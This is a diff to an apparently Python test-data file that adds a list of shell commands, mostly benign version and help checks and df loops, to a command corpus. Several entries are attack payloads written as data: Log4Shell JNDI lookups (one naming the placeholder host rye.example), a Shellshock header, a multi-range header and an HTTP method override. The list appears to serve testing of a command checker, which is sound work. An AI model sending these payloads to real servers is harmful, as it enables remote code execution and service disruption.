@@ -1390,4 +1390,26 @@ LOOPS_AND_INPUTS = [
     "grep x a.d/?.conf",
 ]
 
-SHELL += LOOPS_AND_INPUTS
+MADE_ELSEWHERE = [
+    "go version",
+    "gcloud --version",
+    "az --version",
+    "aws iam list-users help",
+    "aws s3 ls help",
+    "aws logs tail help",
+    "bash -c 'while true; do df; done'",
+    "sh -c 'while :; do sleep 5; df; done'",
+    "watch 'while true; do df; done'",
+    "curl -A '${jndi:ldap://rye.example/a}' http://h/health",
+    "curl -e '() { :; }; id' http://h/health",
+    "curl -r 0-,0-,0- http://h/health",
+    "curl -H 'Cookie: _method=DELETE' http://h/health",
+    "curl 'http://h/health?bake_id=1'",
+    "curl -G -d bake_id=1 http://h/health",
+    "wget -qO- --user-agent='${jndi:x}' http://h/health",
+    "wget -qO- 'http://h/api/jobs/1?start=yes'",
+    "curl http://h/v2/heartbeats/oven/ping",
+]
+"""What another folder, another server or another shell makes of words that look."""
+
+SHELL += [*LOOPS_AND_INPUTS, *MADE_ELSEWHERE]
